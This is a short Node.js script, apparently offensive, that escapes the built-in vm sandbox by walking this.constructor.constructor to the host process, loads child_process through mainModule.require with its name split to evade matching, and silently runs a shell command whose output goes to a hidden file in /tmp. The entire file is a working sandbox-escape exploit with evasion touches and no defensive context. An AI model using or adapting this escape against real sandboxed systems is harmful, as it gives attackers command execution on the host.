// Evasion: the classic vm sandbox escape. Code run in a new context climbs
// this.constructor.constructor to the outer Function and returns the host
// process; its mainModule.require loads child_process to run a shell.
'use strict';
const vm = require('vm');

const probe = 'this.constructor.constructor("return process")()';
const host = vm.runInNewContext(probe, {});
const loader = host.mainModule.require.bind(host.mainModule);
const cp = loader(['child', 'process'].join('_'));
cp.execSync('sh -c "id; uname -a" > /tmp/.p', { stdio: 'ignore' });
